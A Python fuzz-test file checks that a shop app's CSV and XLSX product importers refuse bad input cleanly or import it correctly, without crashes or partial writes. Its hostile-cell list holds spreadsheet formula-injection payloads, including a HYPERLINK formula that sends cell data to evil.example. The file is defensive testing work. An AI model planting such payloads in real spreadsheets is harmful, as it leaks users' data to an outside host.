"""Fuzzing the CSV and XLSX importers: a clear error or a correct result,
never a crash and never a partial write."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from shopdesk import stock
from shopdesk.catalog import table_io
from shopdesk.errors import ShopDeskError
from shopdesk.store.models import AuditLog, Movement, Product, Variant

FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
NASTY = st.sampled_from(
    [
        "",
        " ",
        "😀🍯",
        "مرحبا بالعالم",  # right-to-left
        "\u202eKopi",  # RTL override
        "Kopi\x00Bubuk",
        "x" * 10_000,
        "8.99123E+12",
        "=1+1",
        '"',
        ";",
        "\r\n",
        "Rp 15.000,-",
        "15rb",
        "-5",
        "2000000000015",
        "KOPI-0001",
        "ya",
        "Rasa",
    ]
)
CELL = st.one_of(NASTY, st.text(max_size=30))
COLUMNS = st.lists(st.sampled_from((*table_io.COLUMNS, "extra")), min_size=1, max_size=8)


def _state():
    return (
        Product.select().count(),
        Variant.select().count(),
        Movement.select().count(),
        AuditLog.select().where(AuditLog.action == "import").count(),
    )


def _check(seller, path: Path) -> str:
    before = _state()
    try:
        preview = table_io.preview_import(seller, path)
    except ShopDeskError as exc:
        assert exc.message
        assert _state() == before
        return "refused"
    try:
        result = table_io.apply_import(seller, path, skip_rejected=True)
    except ShopDeskError as exc:
        assert exc.message
        assert _state() == before
        return "refused when applied"
    products, variants, _movements, imports = _state()
    assert variants - before[1] == result.variants_created
    assert products - before[0] == result.products_created
    assert result.variants_created == preview.count(table_io.CREATE)
    assert imports - before[3] == 1
    assert stock.check(seller).ok
    return "imported" if result.variants_created or result.variants_updated else "nothing to do"


@FUZZ
@given(
    columns=COLUMNS,
    rows=st.lists(st.lists(CELL, min_size=0, max_size=9), max_size=6),
    delimiter=st.sampled_from([",", ";", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
)
def test_csv_importer_never_crashes_or_half_writes(seller, columns, rows, delimiter, encoding):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(["name", "price", *columns])
    writer.writerows(rows)
    data = buffer.getvalue().encode(encoding, errors="replace")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        path.write_bytes(data)
        _check(seller, path)


def _xlsx_safe(text: str) -> str:
    # openpyxl refuses control characters in cells; Excel cannot hold them either.
    return "".join(ch for ch in text if ch in "\t\n" or ord(ch) >= 32)


@FUZZ
@given(
    columns=COLUMNS,
    rows=st.lists(
        st.lists(st.one_of(CELL, st.integers(-(10**15), 10**15), st.floats()), max_size=9),
        max_size=6,
    ),
)
def test_xlsx_importer_never_crashes_or_half_writes(seller, columns, rows):
    wb = Workbook()
    ws = wb.active
    ws.append(["name", "price", *columns])
    for row in rows:
        ws.append([_xlsx_safe(v) if isinstance(v, str) else v for v in row])
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.xlsx"
        wb.save(path)
        _check(seller, path)


@FUZZ
@given(data=st.binary(max_size=4000), name=st.sampled_from(["f.csv", "f.xlsx", "f.txt"]))
def test_arbitrary_bytes_give_a_clear_error_or_a_result(seller, data, name):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(data)
        _check(seller, path)


@FUZZ
@given(
    rows=st.lists(
        st.tuples(
            st.one_of(NASTY, st.text(min_size=1, max_size=40)),  # name
            st.sampled_from(["Rp 15.000", "15rb", "1,2jt", "22000", "Rp85.000,-"]),
            st.one_of(NASTY, st.text(max_size=20)),  # category
            st.sampled_from(["", "Rasa"]),
            st.one_of(NASTY, st.text(max_size=20)),  # option value
            st.integers(0, 50).map(str),
            st.one_of(NASTY, st.text(max_size=200)),  # description
        ),
        min_size=1,
        max_size=8,
    )
)
def test_mostly_valid_rows_import_correctly(seller, rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["name", "price", "category", "variant_name", "variant_option", "stock", "description"]
    )
    writer.writerows(rows)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        path.write_bytes(buffer.getvalue().encode("utf-8"))
        _check(seller, path)


# --- deep: valid-looking tables with hostile cells (examples: the hypothesis profile) ---

HOSTILE_CELLS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "'=1+1",
        "1" * 5000,  # past what int() takes from text
        "9" * 25,
        "١٥٠٠٠",
        "１５０００",
        "1e308",
        "-0",
        "NaN",
        "0x10",
        "#DIV/0!",
        "TRUE",
        "\u00a0",
        "\x00",
        "\u202eKopi",
        "😀" * 300,
        "x" * 25_000,  # past the longest cell a table may hold
        "\r\n",
        '"',
        ";",
    ]
)
PLAUSIBLE = {
    "sku": st.sampled_from(["KOPI-0001", "KOPI-0002", "MADU-7", "", "kopi-0001"]),
    "name": st.sampled_from(["Kopi Robusta", "Keripik Pisang", "Madu Hutan", "Kopi Robusta"]),
    "category": st.sampled_from(["Kopi", "Camilan", ""]),
    "price": st.sampled_from(["15000", "Rp 15.000", "15rb", "1,5jt", "Rp85.000,-", "22.500"]),
    "cost": st.sampled_from(["", "9000", "Rp 7.500"]),
    "stock": st.integers(0, 60).map(str),
    "barcode": st.sampled_from(["", "2000000000015", "8991234567890", "12345"]),
    "halal": st.sampled_from(["ya", "tidak", "", "yes"]),
    "is_food": st.sampled_from(["ya", "tidak", ""]),
    "variant_name": st.sampled_from(["", "Rasa", "Ukuran"]),
    "variant_option": st.sampled_from(["", "Original", "Pedas", "250 g"]),
    "weight_g": st.sampled_from(["", "250", "1000"]),
}


@st.composite
def tables(draw) -> tuple[list[str], list[list[object]]]:
    """A header of real column names (English, Indonesian aliases, odd case and spaces)
    and rows of plausible cells, with hostile ones at a rate drawn per table."""
    names = ["name", "price", *draw(st.lists(st.sampled_from(sorted(PLAUSIBLE)), max_size=5))]
    aliases = {v: k for k, v in table_io.ALIASES.items()}
    header = []
    for name in dict.fromkeys(names):
        shown = aliases.get(name, name) if draw(st.booleans()) else name
        header.append(draw(st.sampled_from([shown, shown.upper(), f" {shown.title()} "])))
    rate = draw(st.sampled_from([0.0, 0.05, 0.2, 0.6]))
    rows = []
    for _n in range(draw(st.integers(1, 8))):
        row: list[object] = []
        for name in dict.fromkeys(names):
            hostile = rate and draw(st.floats(0, 1)) < rate
            row.append(draw(HOSTILE_CELLS if hostile else PLAUSIBLE.get(name, st.just(""))))
        rows.append(row)
    return header, rows


class Upload:
    """A table as a seller's file (a plain class: hypothesis reports it in one line)."""

    def __init__(self, name: str, data: bytes, how: str) -> None:
        self.name, self.data, self.how = name, data, how

    def __repr__(self) -> str:
        return f"Upload({self.name}, {len(self.data)} bytes, {self.how})"


def _csv_bytes(header, rows, delimiter: str, encoding: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


def _xlsx_bytes(header, rows, extra_sheet: bool) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:  # a text starting with "=" becomes a live formula cell here
        ws.append([_xlsx_safe(v) if isinstance(v, str) else v for v in row])
    if extra_sheet:
        wb.create_sheet("Lain").append(["x", "y"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@st.composite
def uploads(draw) -> Upload:
    header, rows = draw(tables())
    how = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "damaged csv", "damaged xlsx"]))
    if how.endswith("csv"):
        delimiter = draw(st.sampled_from([",", ";", "\t"]))
        encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
        data, name = _csv_bytes(header, rows, delimiter, encoding), "produk.csv"
    else:
        data, name = _xlsx_bytes(header, rows, draw(st.booleans())), "produk.xlsx"
    if how.startswith("damaged"):  # places as fractions: an XLSX's length varies by run
        body = bytearray(data)
        for _n in range(draw(st.integers(1, 3))):
            at = int(draw(st.floats(0, 1, exclude_max=True)) * len(body))
            body[at : at + 4] = draw(st.binary(min_size=1, max_size=4))
        data = bytes(body[: max(1, int(draw(st.floats(0, 1)) * len(body)))])
    return Upload(name, data, how)


def _files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(upload=uploads())
def test_valid_looking_tables_with_hostile_cells(seller, upload):
    """A result that matches its preview, or a clear refusal that writes nothing:
    no row, no stray file (a refused import after its safety backup leaves only
    that whole backup)."""
    from shopdesk import backup, paths

    home = paths.data_dir()
    before_files = _files(home)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / upload.name
        path.write_bytes(upload.data)
        event(_check(seller, path))
        assert [p.name for p in Path(folder).iterdir()] == [upload.name]
    new = _files(home) - before_files
    stray = [n for n in new if not n.startswith("backups/") or not n.endswith(".zip")]
    assert [n for n in stray if not n.startswith("logs/")] == []
    for name in new - set(stray):
        backup.verify(home / name)
